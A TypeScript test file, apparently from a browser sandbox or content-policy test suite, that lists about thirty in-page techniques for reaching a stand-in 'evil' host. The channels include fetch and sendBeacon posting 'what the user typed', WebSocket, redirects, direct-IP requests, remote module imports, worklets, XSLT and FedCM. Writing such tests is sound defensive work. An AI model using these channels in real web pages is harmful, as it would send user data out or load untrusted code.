// Attacks that send a request by a script of the page.
import type { Arena, Attack } from '../attack.ts';
import { need, settled, web } from '../page/in-page.ts';

type Send = readonly [id: string, title: string, run: (arena: Arena) => unknown, more?: Partial<Attack>];

const redirect = ({ declared, evil }: Arena): string =>
  `${declared}/redirect?to=${encodeURIComponent(`${evil}/redirected`)}`;
const socketOf = (url: string): string => url.replace(/^http/, 'ws');

function xhr(url: string, isAsync: boolean): void {
  const request = new XMLHttpRequest();
  request.open('GET', url, isAsync);
  request.send();
}

const SENDS: readonly Send[] = [
  ['fetch', 'fetch', ({ evil }) => settled(fetch(`${evil}/fetch`))],
  ['fetch-no-cors', 'fetch with `no-cors`', ({ evil }) => settled(fetch(`${evil}/x`, { mode: 'no-cors' }))],
  [
    'fetch-post',
    'fetch that posts data',
    ({ evil }) => settled(fetch(`${evil}/x`, { method: 'POST', mode: 'no-cors', body: 'what the user typed' })),
  ],
  ['fetch-keepalive', 'fetch with `keepalive`', ({ evil }) => settled(fetch(`${evil}/x`, { keepalive: true }))],
  ['fetch-preflight', 'fetch that needs a preflight', ({ evil }) => settled(fetch(`${evil}/x`, { method: 'DELETE' }))],
  ['xhr', 'XMLHttpRequest', ({ evil }) => xhr(`${evil}/xhr`, true)],
  ['xhr-sync', 'Synchronous XMLHttpRequest', ({ evil }) => xhr(`${evil}/xhr`, false), { blocks: true }],
  ['websocket', 'WebSocket', ({ evil }) => void new WebSocket(`${socketOf(evil)}/socket`)],
  ['websocket-secure', 'WebSocket over TLS', ({ evil }) => void new WebSocket(`${evil.replace('http', 'wss')}/socket`)],
  [
    'websocket-stream',
    'WebSocketStream',
    ({ evil }) => void new (need(web.WebSocketStream, 'WebSocketStream'))(`${socketOf(evil)}/socket`),
  ],
  ['event-source', 'EventSource', ({ evil }) => void new EventSource(`${evil}/events`)],
  ['beacon', 'navigator.sendBeacon', ({ evil }) => void navigator.sendBeacon(`${evil}/beacon`, 'what the user typed')],
  ['redirect-fetch', 'Lets its declared origin redirect a fetch', (arena) => settled(fetch(redirect(arena)))],
  [
    'redirect-keepalive',
    'Lets its declared origin redirect a keepalive fetch',
    (arena) => settled(fetch(redirect(arena), { keepalive: true })),
  ],
  [
    'redirect-no-cors',
    'Lets its declared origin redirect a fetch without CORS',
    (arena) => settled(fetch(redirect(arena), { mode: 'no-cors' })),
  ],
  [
    'redirect-image',
    'Lets its declared origin redirect an image',
    (arena) => {
      new Image().src = redirect(arena);
    },
  ],
  ['redirect-media', 'Lets its declared origin redirect a sound', (arena) => void new Audio(redirect(arena)).load()],
  [
    'redirect-events',
    'Lets its declared origin redirect an EventSource',
    (arena) => void new EventSource(redirect(arena)),
  ],
  [
    'redirect-beacon',
    'Lets its declared origin redirect a beacon',
    (arena) => void navigator.sendBeacon(redirect(arena)),
  ],
  [
    'other-port',
    'Reaches another port of the name that it declared',
    ({ declared, evilPort }) => settled(fetch(`${declared.replace(/:\d+$/, '')}:${evilPort}/x`, { mode: 'no-cors' })),
  ],
  [
    'by-address',
    'Reaches the server by its address',
    ({ evilPort }) => settled(fetch(`http://127.0.0.1:${evilPort}/x`, { mode: 'no-cors' })),
  ],
  ['dynamic-import', 'Imports a module', ({ evil }) => settled(import(/* @vite-ignore */ `${evil}/module.js`))],
  ['font-face', 'Loads a FontFace', ({ evil }) => settled(new FontFace('Evil', `url(${evil}/font.woff2)`).load())],
  [
    'audio-worklet',
    'Adds a module to an AudioWorklet',
    ({ evil }) => settled(new AudioContext().audioWorklet.addModule(`${evil}/worklet.js`)),
  ],
  [
    'paint-worklet',
    'Adds a module to a paint worklet',
    ({ evil }) => settled(need(web.CSS?.paintWorklet, 'paintWorklet').addModule?.(`${evil}/worklet.js`)),
  ],
  [
    'shared-storage',
    'Adds a module to a shared storage worklet',
    ({ evil }) => settled(need(web.sharedStorage?.worklet, 'sharedStorage').addModule?.(`${evil}/worklet.js`)),
  ],
  [
    'wasm-streaming',
    'Compiles WebAssembly from a stream',
    ({ evil }) => settled(WebAssembly.compileStreaming(fetch(`${evil}/code.wasm`))),
  ],
  [
    'xslt-document',
    'Loads a document from an XSLT style sheet',
    ({ evil }) => {
      const Processor = need(web.XSLTProcessor, 'XSLTProcessor') as unknown as new () => XSLTProcessor;
      const sheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><p><xsl:copy-of select="document('${evil}/data.xml')"/></p></xsl:template></xsl:stylesheet>`;
      const parse = (text: string) => new DOMParser().parseFromString(text, 'text/xml');
      const processor = new Processor();
      processor.importStylesheet(parse(sheet));
      processor.transformToFragment(parse('<x/>'), document);
    },
    { blocks: true },
  ],
  [
    'payment-manifest',
    'Names a payment method whose manifest the browser fetches',
    async ({ evil }) => {
      const Request = need(web.PaymentRequest, 'PaymentRequest');
      const total = { label: 'x', amount: { currency: 'EUR', value: '1.00' } };
      const request = new Request([{ supportedMethods: `${evil.replace('http:', 'https:')}/pay` }], { total });
      await Promise.all([settled(request.canMakePayment?.()), settled(request.show?.())]);
    },
    { gesture: true, control: 'top' },
  ],
  [
    'federated-login',
    'Names an identity provider whose configuration the browser fetches',
    async ({ evil }) => {
      need(web.IdentityCredential, 'IdentityCredential');
      const identity = { providers: [{ configURL: `${evil}/fedcm.json`, clientId: 'x', nonce: 'x' }] };
      await settled(navigator.credentials.get({ identity } as CredentialRequestOptions));
    },
    { gesture: true, control: 'top' },
  ],
  [
    'media-session',
    'Names artwork that the browser shows for a sound',
    async ({ evil }) => {
      const { mediaSession } = navigator;
      mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: `${evil}/art.svg`, sizes: '96x96' }] });
    },
  ],
  [
    'attribution',
    'Registers an attribution source at its server',
    ({ evil }) => {
      const image = document.createElement('img');
      image.setAttribute('attributionsrc', `${evil}/attribution`);
      image.src = 'data:,';
      document.body.append(image);
    },
  ],
];

export const REQUESTS: readonly Attack[] = SENDS.map(([id, title, run, more]) => ({
  id,
  title,
  threat: id.startsWith('redirect-') ? 'T125' : 'T113',
  judge: 'connection',
  run,
  ...more,
}));
